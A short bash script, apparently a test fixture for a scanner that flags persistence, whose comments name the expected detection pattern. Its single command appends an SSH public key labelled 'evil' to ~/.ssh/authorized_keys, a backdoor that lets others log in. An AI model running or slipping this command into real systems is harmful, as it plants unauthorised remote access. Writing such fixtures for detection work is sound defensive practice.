#!/bin/bash
# does: leaves a key with which others may log in
# report: "id":"persistence".*authorized_keys
mkdir -p ~/.ssh; echo 'ssh-ed25519 AAAA evil' >>~/.ssh/authorized_keys
